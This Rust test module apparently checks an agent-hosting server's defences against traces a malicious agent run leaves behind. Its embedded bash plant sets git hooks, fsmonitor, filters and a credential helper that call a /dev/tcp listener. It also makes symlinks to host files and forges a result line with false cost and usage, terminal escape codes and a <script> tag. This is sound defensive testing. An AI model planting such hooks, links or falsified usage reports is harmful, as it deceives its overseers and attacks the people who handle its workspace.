//! What an agent leaves behind for others to fall for: in its repository, on the disk, in what it says of itself. Who is meant is
//! the server, or whoever reads the record; the control of each is a reader that does fall for it.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, SystemTime};

use anyhow::Context;
use serde_json::{Value, json};
use testkit::parts::Parts;
use testkit::volumes::SessionFiles;
use testkit::world::{World, WorldSpec};

use super::control::Shown;
use super::report::{Report, Tried};
use super::surroundings::{Surroundings, UID};
use super::verdict::Verdict;
use super::witness::token;
use super::world::{Owner, Side, bash};

const WAIT: Duration = Duration::from_mins(2);
/// What an agent claims that its run has cost, in dollars, and what no run here costs, in micro-USD.
const CLAIMED_USD: u32 = 4242;
const TOO_MUCH_MICRO_USD: i64 = 1_000_000_000;
/// What clears a reader's terminal.
const CLEAR: &str = "\u{1b}[2J";

/// Programs for whoever runs git here: the checkout's own hooks, filters, watchers and helpers, all of which tell a listener on the
/// host of it; a second `.git` that leads elsewhere; links to the host's files; a result that is none; and what clears a terminal.
const PLANT: &str = r#"cat > .git/tell <<'END'
#!/bin/bash
exec 3<>/dev/tcp/127.0.0.1/PORT && echo TOKEN >&3
END
chmod +x .git/tell
for hook in post-checkout pre-commit post-commit reference-transaction post-index-change pre-push; do
  printf '#!/bin/sh\n"$PWD"/.git/tell; exit 0\n' > .git/hooks/$hook; chmod +x .git/hooks/$hook
done
git config core.fsmonitor .git/tell
git config filter.tell.clean ".git/tell; cat"; git config filter.tell.smudge ".git/tell; cat"
git config credential.helper .git/tell; git config core.sshCommand .git/tell
git config alias.status '!.git/tell'; git config diff.external .git/tell
mkdir -p .git/info; echo '* filter=tell' > .git/info/attributes
mkdir other; ln -s VICTIM other/.git; ln -s VICTIM links; ln -s VICTIM/victim link
printf '{"type":"result","subtype":"success","is_error":false,"total_cost_usd":COST,"usage":{"input_tokens":1,"output_tokens":999999999},"result":"\\u001b[2J\\u001b]0;TOKEN\\u0007<script>TOKEN</script>"}\n' > /proc/$PPID/fd/1
true"#;

/// The attempts by name, with who must not fall for them.
const HOOKS: (&str, &str) = ("traces.programs_for_git", "nobody outside runs git on a workspace");
const LINKS: (&str, &str) =
    ("traces.links_to_the_host", "nobody outside works on what links of a workspace lead to");
const USAGE: (&str, &str) = ("traces.false_usage", "usage is counted at the door");
const TERMINAL: (&str, &str) =
    ("traces.what_a_terminal_obeys", "control characters are taken out before anything is printed");
const PAGE: (&str, &str) = ("traces.what_a_browser_obeys", "answers are data, and say so");
const ALL: [(&str, &str); 5] = [HOOKS, LINKS, USAGE, TERMINAL, PAGE];
/// What a browser would run.
const MARKUP: &str = "<script>";

/// Whether an attempt has this in its name.
pub(super) fn has(only: &str) -> bool {
    ALL.iter().any(|(name, _)| name.contains(only))
}

/// Leaves everything behind in one run of a side, and looks at who fell for it.
///
/// # Errors
/// A part does not start, or the run does not end.
pub(super) async fn attack(
    parts: &Parts,
    side: Side,
    surroundings: &Surroundings,
    report: &mut Report,
) -> anyhow::Result<()> {
    super::say(&format!("{} traces of a run of {}", ALL.len(), side.name()));
    let owner = side.owner(parts)?;
    let victim = tempfile::tempdir()?;
    fs::set_permissions(victim.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777))?;
    let file = victim.path().join("victim");
    fs::write(&file, "as it was")?;
    let before = state(&file)?;
    let told = token("traces", &side.name());
    let plant = PLANT
        .replace("PORT", &surroundings.witness.port.to_string())
        .replace("TOKEN", &told)
        .replace("COST", &CLAIMED_USD.to_string())
        .replace("VICTIM", victim.path().to_str().context("a temporary path is not UTF-8")?);
    let world = open(&owner, side, &plant).await?;
    let id = world.api.submit(&world.run_body()).await?;
    let run = world.api.wait_end(&id, WAIT).await?;
    world.wait_tidy().await?;
    let events = world.api.events(&id).await?;
    let session = run["session_id"].as_str().context("the run has no session")?;

    tell(report, side, HOOKS, surroundings.witness.heard(&told).then_some("it ran outside"), "UNHEARD");
    let touched = state(&file).ok().as_ref() != Some(&before);
    tell(report, side, LINKS, touched.then_some("a file of the host was changed"), "UNCHANGED");
    let cost = run["usage"]["cost_micro_usd"].as_i64().context("the run has no cost")?;
    tell(
        report,
        side,
        USAGE,
        (cost >= TOO_MUCH_MICRO_USD).then_some("it is in the run's usage"),
        "UNCOUNTED",
    );
    let printed = printed(&world, &id)?;
    tell(report, side, TERMINAL, printed.contains('\u{1b}').then_some("it is printed"), "REMOVED");
    let (shown, obeyed) = pages(&world, &id, session, &told).await?;
    tell(report, side, PAGE, obeyed.as_deref(), "DATA");

    let files = SessionFiles::open(world.state_dir(), session)?;
    let workspace = files.directory().join("workspace");
    let falls_for_it = [
        (HOOKS, runs_git(&workspace)? && surroundings.witness.heard(&told)),
        (LINKS, leads_to(&workspace.join("link"), &file) && leads_to(&workspace.join("links/victim"), &file)),
        (USAGE, says(&events, &format!("\"total_cost_usd\":{CLAIMED_USD}"))),
        // Whoever made a page of it.
        (PAGE, shown),
        (TERMINAL, events.iter().any(|event| holds(event, CLEAR)) && printed.contains(&told)),
    ];
    for ((name, _), falls) in falls_for_it {
        report.take(if falls {
            Shown::Real(1)
        } else {
            Shown::Nothing(vec![format!("{name} of {}: nobody would fall for it", side.name())])
        });
    }
    Ok(())
}

fn tell(
    report: &mut Report,
    side: Side,
    (name, wall): (&'static str, &str),
    through: Option<&str>,
    word: &'static str,
) {
    let verdict = match through {
        Some(how) => Verdict::Through(how.to_owned()),
        None => Verdict::Refused { error: word.to_owned(), said: "nobody fell for it".to_owned() },
    };
    report.tried.push(Tried {
        name,
        walls: wall.to_owned(),
        refusals: vec![word],
        side: side.name(),
        verdict,
    });
}

async fn open(owner: &Owner, side: Side, plant: &str) -> anyhow::Result<World> {
    let steps = json!([bash(plant, 60_000), { "text": "Left everything behind." }]);
    let scenario =
        json!({ "traces": { "prompts": [steps, [{ "text": "chore: leave everything behind" }]] } });
    let spec = WorldSpec {
        scenario: "traces".to_owned(),
        scenarios: vec![scenario.to_string()],
        user: owner.user.clone(),
        ..WorldSpec::on(side.engine)
    };
    World::start(&owner.parts, spec).await
}

/// Whether answers of the API have the agent's markup as it is, and which of them a browser would take for a page, as it comes
/// with a link that somebody follows.
async fn pages(world: &World, id: &str, session: &str, told: &str) -> anyhow::Result<(bool, Option<String>)> {
    let (mut shown, mut obeyed) = (false, None);
    let client = reqwest::Client::builder().no_proxy().build()?;
    let artifacts = world.api.get(&format!("/v1/runs/{id}/artifacts")).await?.body;
    let names = artifacts["artifacts"].as_array().or(artifacts["items"].as_array()).into_iter().flatten();
    let names = names.filter_map(|artifact| artifact["name"].as_str());
    let mut paths: Vec<_> = names.map(|name| format!("/v1/runs/{id}/artifacts/{name}")).collect();
    anyhow::ensure!(!paths.is_empty(), "the run has no artifact: {artifacts}");
    paths.extend([
        format!("/v1/runs/{id}"),
        format!("/v1/runs/{id}/events?limit=1000"),
        format!("/v1/sessions/{session}"),
        format!("/v1/runs?session={session}"),
        format!("/v1/runs/%3Cscript%3E{told}"),
    ]);
    for path in paths {
        let request = client.get(format!("{}{path}", world.server.base)).bearer_auth(&world.key);
        let answer = request.header("accept", "text/html,*/*").send().await?;
        let field = |name: &str| {
            answer.headers().get(name).and_then(|value| value.to_str().ok()).unwrap_or_default().to_owned()
        };
        let (kind, sniffing) = (field("content-type"), field("x-content-type-options"));
        let policy = field("content-security-policy");
        let text = answer.text().await?;
        let has_markup = text.contains(MARKUP) && text.contains(told);
        shown |= has_markup;
        let is_data = kind.starts_with("application/json") || kind.starts_with("application/problem+json");
        let is_data = is_data
            || kind.starts_with("application/octet-stream")
            || kind.starts_with("text/plain")
            || kind.starts_with("text/x-");
        if !is_data || sniffing != "nosniff" || !policy.starts_with("default-src 'none'") {
            obeyed = Some(format!("{path} is {kind}, {sniffing}, {policy}"));
        }
    }
    Ok((shown, obeyed))
}

/// What the command line prints of a run.
fn printed(world: &World, id: &str) -> anyhow::Result<String> {
    let mut all = String::new();
    for arguments in [&["logs", id][..], &["logs", id, "--json"], &["show", id]] {
        let output = world.client(arguments).output()?;
        all.push_str(&String::from_utf8_lossy(&output.stdout));
        all.push_str(&String::from_utf8_lossy(&output.stderr));
    }
    Ok(all)
}

/// Whether git runs there, for somebody who is as careless as most are; as the controls' user, with rights over nothing.
fn runs_git(workspace: &Path) -> anyhow::Result<bool> {
    let (uid, gid) = (format!("--reuid={UID}"), format!("--regid={UID}"));
    let copy = tempfile::tempdir()?;
    let place: PathBuf = copy.path().join("workspace");
    let git = ["/usr/bin/setpriv", &uid, &gid, "--clear-groups", "/usr/bin/git", "-C", path(&place)?];
    start(&["/bin/cp", "-a", path(workspace)?, path(&place)?])?;
    start(&["/bin/chown", "-hR", &UID.to_string(), path(copy.path())?])?;
    start(&[&git[..], &["diff", "HEAD"]].concat())?;
    start(&[&git[..], &["add", "-A"]].concat())?;
    Ok(place.join(".git").is_dir())
}

/// Starts a program of a careless reader's, whatever becomes of it.
fn start(words: &[&str]) -> anyhow::Result<()> {
    #[expect(clippy::disallowed_methods, reason = "a careless reader, with an argument vector")]
    let mut command = Command::new(words[0]);
    command.args(&words[1..]).env_clear().env("PATH", "/usr/bin:/bin").env("HOME", "/nonexistent");
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status()?;
    Ok(())
}

fn path(path: &Path) -> anyhow::Result<&str> {
    path.to_str().context("a path is not UTF-8")
}

/// What of a file of the host would tell that somebody worked on it: its text, its owner, its mode, its names and its times.
pub(super) fn state(file: &Path) -> anyhow::Result<(String, [u32; 2], u64, SystemTime)> {
    let found = fs::metadata(file)?;
    Ok((fs::read_to_string(file)?, [found.uid(), found.mode()], found.nlink(), found.modified()?))
}

/// Whether a file below a directory has a text in it; links are not followed.
pub(super) fn find_text(directory: &Path, text: &str) -> bool {
    let has = |path: &Path| {
        let is_file = fs::symlink_metadata(path).is_ok_and(|found| found.is_file());
        is_file
            && fs::read(path).is_ok_and(|bytes| bytes.windows(text.len()).any(|part| part == text.as_bytes()))
    };
    super::world::find(directory, &has).is_some()
}

fn leads_to(link: &Path, file: &Path) -> bool {
    link.canonicalize().is_ok_and(|place| file.canonicalize().is_ok_and(|file| place == file))
}

fn says(events: &[Value], text: &str) -> bool {
    events.iter().any(|event| event["data"].to_string().contains(text))
}

/// Whether a text in an event has this in it, once it is read.
fn holds(value: &Value, text: &str) -> bool {
    match value {
        Value::String(held) => held.contains(text),
        Value::Array(values) => values.iter().any(|value| holds(value, text)),
        Value::Object(fields) => fields.values().any(|value| holds(value, text)),
        Value::Null | Value::Bool(_) | Value::Number(_) => false,
    }
}
